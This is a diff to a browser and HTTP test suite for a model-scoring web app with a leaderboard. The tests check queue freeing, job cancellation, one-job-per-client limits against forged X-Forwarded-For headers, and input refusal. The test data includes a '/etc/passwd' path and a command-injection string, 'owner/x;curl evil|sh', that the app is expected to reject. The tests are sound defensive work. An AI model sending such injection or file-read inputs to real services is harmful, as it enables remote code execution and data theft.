@@ -9,9 +9,11 @@ HTTP requests, as visitors -- and a careless or hostile client -- would use it.
   at their own size, the files to download; screenshots kept in ``BGBENCH_SCREENSHOT_DIR``
   when set;
 * the leaderboard keeps one row per model x dataset x protocol;
-* availability: a visitor who closes the page, and a client that never reads its updates,
-  free the queue (the job's process is gone, the next visitor is served); a client cannot
-  queue a second job; a page loads with the queue full; uploads are refused.
+* availability: a visitor who closes the page, presses Stop, or never reads its updates
+  frees the queue (the job's process and its data-loader workers are gone from the process
+  table, the next visitor is served); a client cannot queue a second job, whatever
+  X-Forwarded-For it writes; a refused model id is refused before the queue while a job
+  runs; a page loads with the queue full; uploads are refused.
 
 Needs ``apt-get install chromium`` and ``pip install playwright`` (no Playwright browser
 download); skipped, saying which is missing, otherwise.
@@ -33,6 +35,7 @@ from pathlib import Path
 
 import pytest
 
+from tests.assertions import live_group
 from tests.in9_fixture import VARIANTS
 
 CHROMIUM = os.environ.get("BGBENCH_CHROMIUM", "/usr/bin/chromium")
@@ -119,19 +122,28 @@ class Server:
                 out.append(int(status.parent.name))
         return out
 
-    def join(self, api_name: str, data: list, client: str, session: str) -> tuple[int, dict]:
-        """Queue a job as a script would (POST /queue/join), from address ``client``."""
+    def join(
+        self, api_name: str, data: list, client: str, session: str, forged: str = ""
+    ) -> tuple[int, dict]:
+        """Queue a job as a script would (POST /queue/join), connecting from the loopback
+        address ``client`` (127.x.y.z: every one of them reaches the server), with an
+        ``X-Forwarded-For`` header of its own making when ``forged``."""
+        import http.client
+
         body = {"data": data, "fn_index": self.fn_index(api_name), "session_hash": session}
-        request = urllib.request.Request(
-            self.url + "gradio_api/queue/join",
-            data=json.dumps(body).encode(),
-            headers={"Content-Type": "application/json", "X-Forwarded-For": client},
+        headers = {"Content-Type": "application/json"}
+        if forged:
+            headers["X-Forwarded-For"] = forged
+        host, port = self.url.split("//")[1].strip("/").split(":")
+        connection = http.client.HTTPConnection(
+            host, int(port), timeout=60, source_address=(client, 0)
         )
         try:
-            with urllib.request.urlopen(request, timeout=60) as r:
-                return r.status, json.loads(r.read())
-        except urllib.error.HTTPError as err:
-            return err.code, json.loads(err.read() or b"{}")
+            connection.request("POST", "/gradio_api/queue/join", json.dumps(body), headers)
+            response = connection.getresponse()
+            return response.status, json.loads(response.read() or b"{}")
+        finally:
+            connection.close()
 
 
 @pytest.fixture(scope="module")
@@ -348,23 +360,30 @@ def test_score_the_bundled_model_in_a_browser(reports_server, browser):
     _click_score_and_see_the_status(page)
     _wait_done(page)
     page.get_by_role("tab", name="Leaderboard").click()
-    board = page.locator("#leaderboard")
-    expect(board).to_contain_text("tf_efficientnet_lite0", timeout=60_000)
-    expect(board).to_contain_text("in9-local")
-    expect(board).to_contain_text("measured")
-    expect(board).to_contain_text("published")
+    # the published benchmark's board: the papers' rows; a run on the local sample is
+    # ranked apart, with its image count and data fingerprint
+    board, other = page.locator("#leaderboard"), page.locator("#leaderboard-other")
+    expect(board).to_contain_text("published", timeout=60_000)
     expect(board).to_contain_text("BG-GAP (pts)")
+    expect(other).to_contain_text("tf_efficientnet_lite0", timeout=60_000)
+    expect(other).to_contain_text("in9-local")
+    expect(other).to_contain_text("measured")
+    expect(other).to_contain_text(results["data"]["fingerprint"][:12])
+    expect(other).to_contain_text("images")
+    expect(board.get_by_role("row").filter(has_text="tf_efficientnet_lite0")).to_have_count(0)
+    expect(other.get_by_role("row").filter(has_text="published")).to_have_count(0)
     (stored,) = [
         json.loads(line)
         for line in (server.folder / "leaderboard" / "rows.jsonl").read_text().splitlines()
     ]
     assert stored["scores"]["BG-GAP"] == pytest.approx(round(gap, 2))
     assert stored["model"] == "tf_efficientnet_lite0" and stored["protocol"]
-    cut = page.evaluate(
-        """() => { const t = document.querySelector('#leaderboard table');
-                   return t ? t.getBoundingClientRect().right : 0; }"""
-    )
-    assert 0 < cut <= WIDTH
+    for board_id in ("leaderboard", "leaderboard-other"):
+        cut = page.evaluate(
+            f"""() => {{ const t = document.querySelector('#{board_id} table');
+                       return t ? t.getBoundingClientRect().right : 0; }}"""
+        )
+        assert 0 < cut <= WIDTH, board_id
     _shot(page, server.folder, "space_leaderboard.png")
 
     page.get_by_role("tab", name="Explore").click()
@@ -478,14 +497,38 @@ def _wait_for(condition, seconds: float, what: str) -> None:
     raise AssertionError(f"not within {seconds} s: {what}")
 
 
+def _running_job(server, workers: bool = True) -> tuple[int, set[int]]:
+    """The running job's pid (its process group) and the processes of that group seen --
+    with ``workers``, once its data-loader workers have started too (about 10 s in)."""
+    _wait_for(lambda: server.jobs(), 120, "the job started")
+    (job,) = server.jobs()
+    seen: set[int] = set(live_group(job))
+
+    def workers_started() -> bool:
+        seen.update(live_group(job))
+        return len(seen) > 1
+
+    if workers:
+        _wait_for(workers_started, 120, "the job's data-loader workers started")
+    return job, seen
+
+
+def _none_left(server, job: int, seen: set[int], why: str) -> None:
+    """No process of the job's group -- the job, its workers -- is left: checked in the
+    process table (a worker the job started would otherwise live on, re-parented)."""
+    _wait_for(lambda: not live_group(job), 60, f"{why}: every process of the job ended")
+    assert not [p for p in seen if p in live_group(job)]
+
+
 def test_a_client_that_never_reads_frees_the_queue(busy_server):
-    """A script queues a long job and never reads its updates: the job is stopped after the
-    short unread limit, and the next visitor's job runs."""
-    status, body = busy_server.join("score", _noise(), "10.0.0.1", "deaf-client")
+    """A script queues a long job and never reads its updates: the job -- with its workers
+    -- is stopped after the short unread limit, and the next visitor's job runs."""
+    status, body = busy_server.join("score", _noise(), "127.0.0.11", "deaf-client")
     assert status == 200, body
-    _wait_for(lambda: busy_server.jobs(), 120, "the job started")
+    job, seen = _running_job(busy_server, workers=False)  # stopped within seconds
     _wait_for(lambda: not busy_server.jobs(), 120, "the unread job was stopped")
-    status, body = busy_server.join("score", _evaluate(), "10.0.0.2", "next-visitor")
+    _none_left(busy_server, job, seen, "unread")
+    status, body = busy_server.join("score", _evaluate(), "127.0.0.12", "next-visitor")
     assert status == 200, body
     _wait_for(lambda: busy_server.jobs(), 120, "the next visitor's job started")
 
@@ -497,10 +540,10 @@ def test_a_visitor_who_closes_the_page_frees_the_queue(busy_server, browser):
     page = _page(browser, busy_server.url)
     _task(page, "noise")
     _click_score_and_see_the_status(page)
-    _wait_for(lambda: busy_server.jobs(), 120, "the job started")
-    (job,) = busy_server.jobs()
+    job, seen = _running_job(busy_server)
     page.close()  # the visitor leaves mid-job
     _wait_for(lambda: job not in busy_server.jobs(), 60, "the job's process was killed")
+    _none_left(busy_server, job, seen, "page closed")
     # the next visitor is served by the freed slot: no job of the first visitor's is left to
     # wait for (checked above), and the new one runs to the end
     page = _page(browser, busy_server.url)
@@ -517,11 +560,12 @@ def test_stop_cancels_the_job(busy_server, browser):
     page = _page(browser, busy_server.url)
     _task(page, "noise")
     _click_score_and_see_the_status(page)
-    _wait_for(lambda: busy_server.jobs(), 120, "the job started")
+    job, seen = _running_job(busy_server)
     page.get_by_role("button", name="Stop").click()
     expect(page.locator("#job-status")).to_contain_text("Stopped")
     expect(page.locator("#score-button")).to_be_enabled()
     _wait_for(lambda: not busy_server.jobs(), 60, "the stopped job's process was killed")
+    _none_left(busy_server, job, seen, "Stop")
     page.close()
 
 
@@ -533,13 +577,19 @@ def test_one_job_per_client_and_a_full_queue_still_loads_the_page(busy_server, b
     _task(page, "noise")
     _click_score_and_see_the_status(page)
     _wait_for(lambda: busy_server.jobs(), 120, "the job started")
-    # the same client cannot queue another
-    status, body = busy_server.join("score", _noise(), "127.0.0.1", "second-tab")
-    assert status == 422, body
-    assert "You already have a scoring job waiting or running" in json.dumps(body)
+    # the same client cannot queue another, whatever X-Forwarded-For it writes
+    for n, forged in enumerate(("", "10.0.0.3", "10.0.0.4, 10.0.0.5")):
+        status, body = busy_server.join("score", _noise(), "127.0.0.1", f"tab-{n}", forged)
+        assert status == 422, (forged, body)
+        assert "You already have a scoring job waiting or running" in json.dumps(body)
+    # a model id the checks refuse is refused at once, before the queue, while a job runs
+    bad = ["/etc/passwd", "in9-local", ["original"], False, "in9", "evaluate"]
+    status, body = busy_server.join("score", bad, "127.0.0.13", "bad-id")
+    assert status == 422 and "paths and links are refused" in json.dumps(body), body
+    assert len(busy_server.jobs()) == 1
     # another client fills the queue (size 1); a third is turned away
-    assert busy_server.join("score", _evaluate(), "10.0.0.3", "filler")[0] == 200
-    assert busy_server.join("score", _evaluate(), "10.0.0.4", "late")[0] == 503
+    assert busy_server.join("score", _evaluate(), "127.0.0.14", "filler")[0] == 200
+    assert busy_server.join("score", _evaluate(), "127.0.0.15", "late")[0] == 503
     # a new visitor's page still loads: the Explore list and the leaderboard are there
     other = browser.new_page(viewport={"width": WIDTH, "height": 1000})
     other.goto(busy_server.url)
@@ -549,6 +599,15 @@ def test_one_job_per_client_and_a_full_queue_still_loads_the_page(busy_server, b
     expect(_visible(other, "Image (class · id)")).to_have_value(re.compile(r" · "), timeout=30_000)
     assert "busy" not in other.locator("body").inner_text().lower()
     _shot(other, busy_server.folder, "space_queue_full.png")
+    # a bad model id typed on a page is refused at once, while the job runs and the queue
+    # is full: it never waits for its turn
+    other.get_by_role("tab", name="Score a model").click()
+    other.locator("#score-model textarea").fill("owner/x;curl evil|sh")
+    other.get_by_role("button", name="Score", exact=True).click()
+    expect(other.locator("#job-status")).to_contain_text("Stopped", timeout=30_000)
+    expect(other.locator("#job-status")).to_contain_text("only letters, digits")
+    assert len(busy_server.jobs()) == 1
+    _shot(other, busy_server.folder, "space_refused_while_busy.png")
     other.close()
     page.get_by_role("button", name="Stop").click()
     page.close()
